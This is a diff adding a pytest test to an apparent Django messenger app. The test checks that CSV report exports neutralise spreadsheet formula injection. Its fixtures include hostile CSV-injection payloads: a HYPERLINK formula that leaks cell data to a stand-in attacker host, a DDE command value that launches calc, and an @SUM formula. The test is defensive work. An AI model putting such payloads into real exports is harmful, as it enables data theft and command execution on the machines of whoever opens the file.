@@ -1,0 +1,54 @@
+"""Defects of the reports and the admin's forms found by trying them as a new user would, each
+pinned here (docs/analytics.md, docs/configuration.md "Per-inbox settings")."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+
+from messenger.models import AgentRole
+from tests.factories import make_audit, make_branch, make_conversation, make_inbox, make_message, make_user
+from tests.test_reports import api_for
+
+pytestmark = pytest.mark.django_db
+
+DAY = {"start": "2026-03-29", "end": "2026-03-29", "tz": "UTC"}
+
+
+def at(hour: int, minute: int = 0) -> datetime:
+    return datetime(2026, 3, 29, hour, minute, tzinfo=UTC)
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text():
+    """A visitor's comment, an operator's or a branch's name starting with = + - @ is written after
+    an apostrophe in every CSV export (CSV injection); the JSON keeps the text as it is, and the
+    commas, quotes and line breaks of a comment survive the quoting."""
+    comment = '=HYPERLINK("http://evil.example/?"&A1,"click"),\n"quoted", comma'
+    branch = make_branch("@SUM(1+1)")
+    operator = make_user("op", branch=branch, first_name="+cmd|' /C calc'!A0")
+    supervisor = make_user("sup", role=AgentRole.SUPERVISOR, branch=branch)
+    conversation = make_conversation(make_inbox(branch), at=at(10), assignee=operator, status="resolved")
+    make_message(conversation, at=at(10))
+    make_message(conversation, at=at(10, 1), direction="out", user=operator)
+    make_audit(conversation, "conversation.status", at=at(10, 2), payload={"from": "open", "to": "resolved"})
+    make_audit(conversation, "conversation.rated", at=at(10, 3), payload={"score": 2, "scale": "stars"})
+    type(conversation).objects.filter(pk=conversation.pk).update(
+        rating_score=2, rating_comment=comment, rated_at=at(10, 3)
+    )
+    api = api_for(supervisor)
+
+    def exported(name: str) -> list[dict[str, str]]:
+        response = api.get(f"reports/{name}/csv", DAY)
+        assert response.status_code == 200
+        return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+    assert api.get("reports/ratings", DAY).json()["results"][0]["comment"] == comment
+    [rating] = exported("ratings")
+    assert rating["comment"] == "'" + comment
+    assert rating["rated_at"] == "2026-03-29T10:03:00Z" and rating["score"] == "2"
+    assert [row["name"] for row in exported("operators")] == ["'+cmd|' /C calc'!A0"]
+    assert [row["name"] for row in exported("branches")] == ["'@SUM(1+1)"]
+    assert api.get("reports/branches", DAY).json()["results"][0]["name"] == "@SUM(1+1)"
